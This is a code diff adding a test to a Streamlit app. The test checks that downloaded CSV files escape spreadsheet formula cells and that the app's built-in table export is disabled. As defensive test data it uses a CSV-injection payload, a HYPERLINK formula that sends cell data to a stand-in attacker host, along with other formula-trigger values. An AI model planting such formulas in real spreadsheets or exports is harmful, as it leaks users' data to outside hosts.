@@ -5,6 +5,8 @@ to a set from History with its answer corrected."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 from app_helpers import ask, go, new_session, run_evaluation_and_wait, unescape, use_app
@@ -153,3 +155,30 @@ def test_a_bootstrap_stopped_on_the_page_resumes(monkeypatch, tmp_path):
     at.run()
     assert not at.exception, at.exception
     assert any("candidate 1 of 1" in m for m in messages(at, "warning") + messages(at, "success"))
+
+
+def test_the_questions_download_makes_formula_cells_text_and_the_tables_own_export_is_off(monkeypatch, tmp_path):
+    from streamlit import config
+    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
+
+    downloads: dict[str, bytes] = {}
+    keep = MemoryMediaFileStorage.load_and_get_id
+
+    def spy(self, data, mimetype, kind, filename=None):  # what a person's browser would save
+        if mimetype == "text/csv":
+            downloads[filename] = data
+        return keep(self, data, mimetype, kind, filename)
+
+    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", spy)
+    use_app(monkeypatch, tmp_path, ["Thought 1: Guess.\nAction 1: Finish[@SUM(1+1)]"])
+    link = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    data = ("question,answer\n" + '"' + link.replace('"', '""') + '",-cmd\n').encode()
+    at = evaluate(upload(go(new_session(), "evaluate"), "links.csv", data, "arith"))
+    assert list(table(at, "prediction")["question"]) == [link]  # shown as it is
+    assert [d.label for d in at.get("download_button")] == ["Download as CSV"]
+    (name, saved), = downloads.items()
+    assert name.endswith("-questions.csv")
+    rows = list(csv.DictReader(io.StringIO(saved.decode("utf-8-sig"), newline="")))
+    assert (rows[0]["question"], rows[0]["gold"], rows[0]["prediction"]) == ("'" + link, "'-cmd", "'@SUM(1+1)")
+    # Streamlit's own download and copy of a table write the cells as they are: off, for every table.
+    assert config.get_option("client.disableDataExport") is True
